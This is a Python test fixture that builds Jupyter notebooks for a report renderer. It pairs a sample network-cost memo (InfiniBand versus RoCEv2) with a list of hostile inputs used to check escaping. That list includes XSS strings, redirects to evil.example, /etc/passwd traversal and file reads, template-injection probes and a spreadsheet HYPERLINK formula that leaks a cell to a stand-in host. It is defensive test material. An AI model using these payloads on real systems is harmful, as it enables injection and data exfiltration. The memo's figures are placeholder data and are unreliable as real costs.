"""A merged notebook that holds every kind of node, long tables, many numbers and hostile text."""

from __future__ import annotations

import base64
import io
from functools import cache
from typing import Any

import matplotlib
import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from rows import words as names

from fabricreport.base import formats

matplotlib.use("svg")
from matplotlib import pyplot as plt

MIME = "application/vnd.fabricreport.block+json"

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(2)</script>",
    '"><a href="https://evil.example/">x</a>',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<b>x</b>'></iframe>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<style>@import url(https://evil.example/x.css)</style>",
    "--><x>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    '#read("/etc/passwd")',
    '#import "@preview/x:0.1.0"',
    '#eval("1") $x^2$ `raw` <label> @ref \\u{41}',
    "unclosed $ [ ` *",
    "{{7*7}} {% include 'x' %} {0.__class__} %(x)s %n",
    '=HYPERLINK("http://evil.example"&A1)',
    "../../etc/passwd",
    "id=body name=attributes",
    "漢字 עברית العربية 😀",
]


def text(value: str) -> dict[str, Any]:
    return {"t": "text", "v": value}


def words(*parts: str | dict[str, Any]) -> list[dict[str, Any]]:
    return [text(p) if isinstance(p, str) else p for p in parts]


def num(identity: str, shown: str, value: float = 1.0) -> dict[str, Any]:
    return {"t": "num", "id": identity, "text": shown, "value": value}


def para(*parts: str | dict[str, Any]) -> dict[str, Any]:
    return {"t": "p", "c": words(*parts)}


def head(level: int, title: str, identity: str = "") -> dict[str, Any]:
    return {"t": "h", "level": level, "c": [text(title)], "id": identity}


def ref(identity: str) -> dict[str, Any]:
    return {"t": "ref", "id": identity}


def cite(*ids: str) -> dict[str, Any]:
    return {"t": "cite", "ids": list(ids)}


@cache
def chart_svg(bars: int = 4, height_in: float = 2.6) -> str:
    """A real matplotlib chart: a horizontal interval plot in the house inks."""
    with matplotlib.rc_context({"svg.hashsalt": "memo", "svg.fonttype": "path", "font.size": 9}):
        figure, axes = plt.subplots(figsize=(6.5, height_in))
        for row in range(bars):
            axes.plot([1 + row * 0.3, 3 + row * 0.5], [row, row], color="#0b66a8", linewidth=3)
            axes.plot([2 + row * 0.4], [row], "o", color="#1f2430")
        axes.set_yticks(range(bars), [f"Option {row + 1}" for row in range(bars)], color="#1f2430")
        axes.grid(axis="x", color="#d9dde3")
        axes.tick_params(colors="#5b6472")
        for side in ("top", "right", "left"):
            axes.spines[side].set_visible(False)
        figure.patch.set_alpha(0)
        axes.patch.set_alpha(0)
        buffer = io.StringIO()
        figure.savefig(buffer, format="svg", metadata={"Date": None})
        plt.close(figure)
    return buffer.getvalue()


def ledger_entry(identity: str, shown: str, value: float, grade: str = "published", **more: Any) -> dict[str, Any]:
    return {
        "id": identity,
        "value": value,
        "text": shown,
        "unit": "usd",
        "rule": "cost of the dearer fabric less cost of the cheaper one, over the same work and horizon",
        "inputs": ["price:switch-qm9700", "evidence:weeks-to-stable", "param:cluster.gpus"],
        "sources": [],
        "grade": grade,
        "spread": {"p5": value * 0.8, "p50": value, "p95": value * 1.3},
        "spread_text": {k: formats.money(value * x) for k, x in (("p5", 0.8), ("p50", 1.0), ("p95", 1.3))},
        "date": "2026-11-20",
        "section": "tco",
        "stale": False,
        "label": f"Label of {identity}",
        **more,
    }


def entry(identity: str, label: str, value: Any, shown: str, unit: str, **more: Any) -> dict[str, Any]:
    """An input as the ledger lists it, with what is not said of it left empty."""
    said = dict.fromkeys(names("date source publisher address read grade seen interest use expiry"), "")
    kind = {
        "id": identity,
        "kind": identity.partition(":")[0],
        "label": label,
        "value": value,
        "text": shown,
        "unit": unit,
    }
    return {**kind, **said, "stale": False, "override": None, **more}


INPUTS: list[dict[str, Any]] = [
    entry("price:switch-qm9700", "Quantum-2 switch, 64 ports of 400 Gb/s", 38500.0, "$38,500", "usd",
        date="2026-09-01", source="Reseller listing of Quantum-2 switches", publisher="Example Reseller",
        address="reseller.example/qm9700", read="2026-11-20", grade="secondary", seen="A", interest="sells the switch",
        use="price of one switch without optics", expiry="2026-12-31"),
    entry("evidence:weeks-to-stable", "Weeks from racking to a stable fabric, RoCEv2", {"low": 2, "mode": 5, "high": 12},
        "2 to 12 weeks", "week", date="2026-11-20", source="Our own assumption", read="2026-11-20", grade="assumption",
        seen="-", use="no public figure exists; replace it with your own roll-out record",
        override={"who": "A. Analyst", "why": "own record of three roll-outs", "until": "2027-01-31"}),
    entry("evidence:llama3-interruptions", "Interruptions of a 54-day run on 16,384 GPUs", 419, "419", "count",
        date="2024-07-31", source="The Llama 3 Herd of Models", publisher="Meta", address="arxiv.org/abs/2407.21783",
        read="2026-11-20", grade="published", seen="A", use="rate of interruptions at large scale; one operator, one run"),
    entry("param:cluster.gpus", "GPUs in the cluster", 1024, "1,024", "count", grade="contract"),
]  # fmt: skip

_GRADES = ("measured", "contract", "quote", "published", "secondary", "estimate", "assumption")
NUMBERS = [
    ledger_entry(f"tco.figure-{i}", f"${i}.{i % 10}M", i * 1e6, _GRADES[i % 7], stale=i == 7) for i in range(1, 25)
]


def block(section: str, nodes: list[dict[str, Any]], ledger: Any = None) -> Any:
    bundle = {
        "version": 1,
        "section": section,
        "nodes": nodes,
        "ledger": NUMBERS if ledger is None else ledger,
        "inputs": INPUTS,
    }
    output = new_output("display_data", data={MIME: bundle, "text/html": "<p>preview</p>", "text/plain": "preview"})
    return new_code_cell("secret_source = 1", outputs=[output])


def glance() -> dict[str, Any]:
    tile = [
        ("Saving over 48 months", num("tco.figure-1", "$1.1M"), "P5 to P95: $0.9M to $1.4M"),
        ("Confidence", "clear", words("RoCEv2 is cheaper in ", num("tco.figure-2", "91 %"), " of draws")),
        ("Days at risk", num("tco.figure-3", "3.3"), "schedule slip at P90"),
        ("Would flip at", num("tco.figure-4", "$52k"), "price of one spine switch"),
    ]
    return {
        "t": "glance",
        "c": [
            para(
                {"t": "strong", "c": [text("Buy RoCEv2 on 800G Ethernet and sign by 15 December.")]},
                " It costs ",
                num("tco.figure-1", "$1.1M"),
                " less than InfiniBand over 48 months for the same work, and the difference survives every price in the book.",
            )
        ],
        "tiles": [
            {"label": words(a), "value": words(b), "note": c if isinstance(c, list) else words(c)} for a, b, c in tile
        ],
    }


def figure(identity: str, svg: str = "", **more: Any) -> dict[str, Any]:
    return {
        "t": "figure",
        "id": identity,
        "title": words("Servers dwarf the fabric, so the difference is small"),
        "subtitle": words("Cost over 48 months, USD million, 1,024 GPUs, P5 to P95"),
        "caption": words(
            "Dots are medians; bars span the 5th to the 95th percentile ", cite("evidence:weeks-to-stable"), "."
        ),
        "alt": "Interval chart of cost by option, where the cheapest option stays below the others.",
        "svg": svg or chart_svg(),
        "data": [["option", "p5", "p50"], ["Option 1", "1.0", "=1+1"], ["Option 2", "1.3", "-2.4"]],
        **more,
    }


def cost_table(
    identity: str, rows: int = 6, caption: str = "RoCEv2 is cheapest in every cost group but staff"
) -> dict[str, Any]:
    def column(label: str, unit: str = "", align: str = "right") -> dict[str, Any]:
        return {"label": words(label), "unit": unit, "align": align}

    body: list[dict[str, Any]] = [{"cells": [words("Bought")], "role": "group"}]
    for i in range(rows):
        cells = [
            words(f"Cost group {i + 1}"),
            words(f"{i * 3.5 + 1:.1f}"),
            words(num("tco.figure-5", f"{i * 12.25:.2f}")),
            words(f"{i - 2}".replace("-", "−")),
        ]
        body.append({"cells": cells, "role": "winner" if i == 1 else "normal"})
    body.append({"cells": [words("Total"), words("123.4"), words("56.70"), words("12")], "role": "total"})
    return {
        "t": "datatable",
        "id": identity,
        "caption": words(caption),
        "columns": [
            column("Group", align="left"),
            column("InfiniBand", "$M"),
            column("RoCEv2", "$M"),
            column("Share", "%"),
        ],
        "rows": body,
        "note": words("Parts may not sum to totals because of rounding."),
    }


PROSE = (
    "The fabric is a small share of what the cluster costs, and the two candidates differ by less than the servers' own price moves in a "
    "quarter. What decides is therefore not the price of a switch but the weeks until the fabric is stable and the people who keep it so. "
)


def decision_cells() -> list[Any]:
    return [
        block(
            "decision",
            [
                {"t": "headline", "data": {"recommendation": "rocev2", "class": "clear"}},
                glance(),
                head(1, "Buy RoCEv2: it is cheaper for the same work and the team can run it", "sec-decision"),
                para(
                    PROSE, "Over the horizon the difference is ", num("tco.figure-6", "$6.6M"), " (", num("tco.figure-7", "$7.7M"),
                    " at list prices), see ", ref("fig-cost"), " and ", ref("tab-cost"), ". Large runs were interrupted 419 times",
                    cite("evidence:llama3-interruptions", "price:switch-qm9700"),
                    {"t": "note", "c": words("One run of one operator; ", num("tco.figure-8", "8.8"), " a day.")}, ".",
                ),
                {
                    "t": "callout",
                    "tone": "decision",
                    "title": words("Sign by 15 December"),
                    "c": [para("The quote expires; after that the price book falls back to list prices.")],
                },
                head(2, "Three things would change the answer", "sec-flips"),
                {
                    "t": "ul",
                    "items": [
                        [para("a spine switch above ", num("tco.figure-9", "$9.9M"))],
                        [para("more than ", num("tco.figure-10", "11"), " weeks until the fabric is stable; see ", ref("sec-tco-counted"))],
                        [para({"t": "em", "c": [text("no")]}, " engineer who has run priority flow control")],
                    ],
                },
                {"t": "callout", "tone": "caution", "title": words("What we do not know"), "c": [para(PROSE)]},
            ],
        ),
    ]  # fmt: skip


def tco_cells() -> list[Any]:
    numbers = [words(num(f"tco.figure-{i}", f"${i}.{i % 10}M"), ", ") for i in range(11, 25)]
    return [
        block(
            "tco",
            [
                head(1, "The servers decide the bill; the fabric decides the schedule", "sec-tco"),
                para(PROSE * 2),
                figure("fig-cost"),
            ],
        ),
        new_markdown_cell(
            "## An analyst's own paragraph\n\nWritten in **Markdown**, with [a link](https://example.org/x) and `code`.\n\n"
            "| Link | Length |\n|---|--:|\n| spine | 30 |\n| leaf | 3.5 |\n\nTable: Cable lengths decide the optics {#tab-cables}\n"
        ),
        block("tco", [para(PROSE), cost_table("tab-cost"), {"t": "p", "c": [n for group in numbers for n in group]}]),
        block("tco", [head(2, "Money and framework agree"), para(PROSE * 3), figure("fig-second"), para(PROSE * 2)]),
        block(
            "tco",
            [
                head(1, "How the cost was counted", "sec-tco-counted"),
                para("All cash flows are discounted.", {"t": "br"}, "Rounded at the end."),
                {"t": "ol", "items": [[para("bill of materials")], [para("times prices")]]},
                {"t": "quote", "c": [para("A lost GPU-hour is charged once.")]},
                {"t": "pre", "v": "cost = servers + fabric\n     + power"},
                {"t": "formula", "svg": chart_svg(1), "tex": r"\alpha + \beta n", "alt": r"alpha plus beta times n"},
                cost_table("tab-long", 60, "Every line of the bill of materials"),
            ],
        ),
    ]


def analyst_cells() -> list[Any]:
    image = new_output(
        "display_data",
        data={"image/png": base64.b64encode(PNG).decode()},
        metadata={"alt": "A grey dot: nothing is lost.", "caption": "A dot"},
    )
    frame = new_output(
        "execute_result",
        data={
            "text/html": "<div><style>.x{}</style><table border='1' class='dataframe'><thead><tr><th></th><th>busbw</th></tr></thead>"
            "<tbody><tr><th>ring</th><td>370.5</td></tr><tr><th>tree</th><td>360.25</td></tr></tbody></table></div>",
            "text/plain": "x",
        },
    )
    return [
        new_code_cell("plot()", outputs=[image]),
        new_markdown_cell("![A dot of theirs.](attachment:a.png)", attachments={"a.png": image.data}),
        new_code_cell(
            "frame", outputs=[frame], metadata={"fabricreport": {"caption": "Ring beats tree", "id": "tab-frame"}}
        ),
    ]


def front_matter() -> dict[str, Any]:
    return {
        "title": "The network for Acme's training cluster",
        "client": "Acme AI",
        "to": "Board of Acme AI",
        "from": "Fabric practice",
        "date": "2026-11-20",
        "date_text": "20 November 2026",
        "edition": "2026-11-20-ab12cd34",
        "subject": "InfiniBand or RoCEv2 for 1,024 H100s",
        "language": "en",
        "status": "Client copy",
        "seed": 20261120,
        "sections": [{"id": "decision", "title": "Decision"}, {"id": "tco", "title": "Cost of ownership"}],
        "version": "0.1.0",
    }


def rich_notebook() -> Any:
    notebook = new_notebook(cells=[*decision_cells(), *tco_cells(), *analyst_cells()])
    notebook.metadata["fabricreport"] = front_matter()
    nbformat.validate(notebook)
    return notebook


def hostile_notebook(payload: str) -> Any:
    """One memo that repeats the payload in every field a user or a seller can type into."""
    evil_ledger = [
        {**ledger_entry("tco.x", payload, 1.0), "label": payload, "rule": payload, "grade": payload, "date": payload}
    ]
    evil_input = dict.fromkeys(INPUTS[0], payload) | {
        "id": "evidence:x",
        "stale": False,
        "override": {"who": payload, "why": payload, "until": payload},
    }
    tiles = [{"label": words(payload), "value": words(payload), "note": words(payload)}] * 3
    asides = ({"t": "note", "c": words(payload)}, {"t": "code", "v": payload})
    own = dict.fromkeys(("title", "subtitle", "caption"), words(payload))
    nodes = [
        {"t": "glance", "c": [para(payload)], "tiles": tiles},
        head(1, payload, payload),
        para(payload, num("tco.x", payload), ref(payload), cite("evidence:x"), *asides),
        {"t": "p", "c": [{"t": "link", "href": payload, "c": words(payload)}]},
        {"t": "pre", "v": payload},
        {"t": "callout", "tone": "caution", "title": words(payload), "c": [para(payload)]},
        figure(payload, alt=payload, data=[[payload], [payload]], **own),
        {**cost_table(payload + "t", 2, payload), "note": words(payload)},
    ]
    evil_ledger[0]["inputs"] = ["evidence:x"]
    cell = block(payload, nodes, ledger=evil_ledger)
    cell.outputs[0].data[MIME]["inputs"] = [evil_input]
    second = block(payload, [para(payload)], ledger=[])
    notebook = new_notebook(cells=[cell, second, new_markdown_cell(payload)])
    notebook.metadata["fabricreport"] = dict.fromkeys(front_matter(), payload) | {
        "sections": [{"id": payload, "title": payload}],
        "status": "Client copy",
        "language": payload,
    }
    return notebook
